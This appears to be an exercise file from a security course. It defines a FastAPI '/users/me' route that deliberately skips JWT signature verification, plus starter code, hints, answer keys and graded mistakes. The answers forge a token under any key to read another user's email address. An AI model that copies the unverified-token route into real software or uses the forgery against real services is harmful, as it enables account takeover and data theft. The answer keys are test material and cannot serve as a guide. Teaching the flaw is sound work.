"""A token that the attacker signs himself, for a route that checks no signature."""

from typing import Any

from fastapi import APIRouter
from jose import jwt
from sqlalchemy import select

from course.exercises.exercise import Exercise, Mistake
from course.judges.attacks import Target, tried_on, tried_on_the_finished
from course.judges.trials import Trying
from microblog import reads
from microblog.dependencies import BearerToken, ReadEngine
from microblog.errors import NotFound
from microblog.models import User
from microblog.schemas import UserPrivate

router = APIRouter()


@router.get("/users/me", response_model=UserPrivate)
def read_me(token: BearerToken, engine: ReadEngine) -> User:
    claims = jwt.get_unverified_claims(token or "")
    user = reads.find_user(engine, claims["sub"])
    if user is None:
        raise NotFound("There is no user of that name.")
    return user


def address_of_marta(target: Target) -> Any:
    return target.rows(select(User.email).where(User.username == "marta"))[0]


EXERCISE = Exercise(
    title="A token of your own",
    minutes=3,
    objective="forge a token where nobody checks the signature",
    task="""The draft answers `GET /users/me` with the account that the claims name, its `email`
among the fields. Jonas wants Marta's e-mail address. He doesn't know the service's key. Fill in the
gaps.""",
    starter="""def attack(api):
    claims = {"sub": ____}
    token = jwt.encode(claims, ____, algorithm="HS256")
    answer = api.get("/users/me", headers={"Authorization": f"Bearer {token}"})
    return answer.json()[____]


answer = attack""",
    hints=(
        "The claim `sub` says whose token it is. Who do you want to be?",
        "The second gap is the key that signs. Which key would this draft notice to be wrong?",
        'None at all: it never looks at the signature. So `"marta"`, any text as the key, and '
        'the field `"email"` of the answer.',
    ),
    imports="from jose import jwt",
    answers=(
        """
def attack(api):
    claims = {"sub": "marta"}
    token = jwt.encode(claims, "any key at all", algorithm="HS256")
    answer = api.get("/users/me", headers={"Authorization": f"Bearer {token}"})
    return answer.json()["email"]
""",
        """
def attack(api):
    token = jwt.encode({"sub": "Marta", "exp": 1}, "", algorithm="HS512")
    return api.get("/users/me", headers={"Authorization": f"Bearer {token}"}).json()["email"]
""",
    ),
    mistakes=(
        Mistake(
            "his own name",
            """
def attack(api):
    token = jwt.encode({"sub": "jonas"}, "any key at all", algorithm="HS256")
    answer = api.get("/users/me", headers={"Authorization": f"Bearer {token}"})
    return answer.json()["email"]
""",
            "This is jonas's own address. The draft shows the account that the claims name, so "
            "name the one that you want to see.",
        ),
        Mistake(
            "the username",
            """
def attack(api):
    token = jwt.encode({"sub": "marta"}, "any key at all", algorithm="HS256")
    answer = api.get("/users/me", headers={"Authorization": f"Bearer {token}"})
    return answer.json()["username"]
""",
            "You're in, and what you return is her username. Take the field with the address.",
        ),
        Mistake(
            "no such user",
            """
def attack(api):
    token = jwt.encode({"sub": "1"}, "any key at all", algorithm="HS256")
    answer = api.get("/users/me", headers={"Authorization": f"Bearer {token}"})
    return answer.json()["email"]
""",
            "The draft looked for the user that your claims name, and found none. `sub` holds a "
            "username, such as jonas.",
        ),
        Mistake(
            "all of it",
            """
def attack(api):
    token = jwt.encode({"sub": "marta"}, "any key at all", algorithm="HS256")
    return api.get("/users/me", headers={"Authorization": f"Bearer {token}"}).json()
""",
            "You're in, and you return marta's whole account. Return her address alone.",
        ),
    ),
    judge=Trying(
        [
            tried_on("The draft that never checks the signature.", router, address_of_marta),
            tried_on("The draft with other addresses.", router, address_of_marta, town="soria"),
            tried_on_the_finished(address_of_marta),
        ]
    ),
    praise="You're marta, as far as this draft can tell. The finished service refuses your token.",
)
